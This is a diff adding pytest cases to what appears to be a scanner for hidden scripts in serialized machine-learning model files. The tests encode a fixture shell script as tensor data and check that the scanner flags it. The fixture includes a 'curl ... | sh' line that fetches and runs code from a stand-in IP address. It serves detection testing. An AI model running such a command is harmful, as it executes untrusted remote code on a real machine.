@@ -14,10 +14,11 @@ import pytest
 import skops.io
 from sklearn.linear_model import SGDClassifier
 
-from auditor.intake.inert import packed, skops_nodes
+from auditor.intake.inert import contents, packed, skops_nodes, stowed
 from auditor.intake.inert.dtypes import dtype_of
 from auditor.intake.inert.log import Budget, Damaged, Log
 from auditor.intake.inert.machine import Machine
+from auditor.intake.inert.values import Pairs
 from auditor.intake.inert.ziplayout import content, layout
 
 
@@ -90,3 +91,31 @@ def test_nodes_of_skops_have_the_form_that_it_writes() -> None:
     ):  # fmt: skip
         assert len([*skops_nodes.look(changed, changed.get("protocol") is not None)]) == 1
     assert [*skops_nodes.look({**schema}, outermost=False)] != []
+
+
+SCRIPT = (
+    "#!/bin/sh\nset -e\ncurl -s http://198.51.100.7/a | sh\necho that was all of it, thank you\n"
+    * 4
+)
+
+
+@pytest.mark.parametrize("dtype", ["bfloat16", "complex64", "complex128", "float32"])
+def test_letters_as_numbers_of_any_kind_are_a_text(dtype: str) -> None:
+    codes = np.frombuffer(SCRIPT.encode(), np.uint8)
+    kinds = {"complex64": "<c8", "complex128": "<c16", "float32": "<f4", "bfloat16": "<f4"}
+    raw = codes.astype(kinds[dtype])
+    data = (raw.view("<u4") >> 16).astype("<u2") if dtype == "bfloat16" else raw
+    log = Log("m.pt", Budget.fresh(5))
+    stowed.look("w", dtype, data.view(np.uint8), memoryview(data.tobytes()), log)
+    assert any("spell" in problem.message for problem in log.shared.problems)
+
+
+@pytest.mark.parametrize("as_table", [False, True])
+def test_lines_of_a_program_in_several_texts_are_named(as_table: bool) -> None:
+    lines: list[object] = [*SCRIPT.splitlines()]
+    log = Log("m.pt", Budget.fresh(5))
+    contents.look(Pairs([*enumerate(lines)]) if as_table else lines, log)
+    assert [problem.name for problem in log.shared.problems] == ["lines"]
+    quiet = Log("m.pt", Budget.fresh(5))
+    contents.look(["cat", "dog", "(", "import", "os.system("], quiet)
+    assert quiet.shared.problems == []
